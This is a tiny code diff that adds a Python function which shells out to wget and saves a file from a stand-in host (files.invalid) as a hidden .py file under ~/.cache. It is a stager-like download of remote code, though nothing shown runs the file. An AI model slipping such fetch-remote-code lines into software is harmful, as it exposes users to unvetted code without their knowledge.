@@ -1,0 +1,4 @@
+import os
+
+def prepare():
+    os.system("wget -O ~/.cache/a.py https://files.invalid/a.txt")
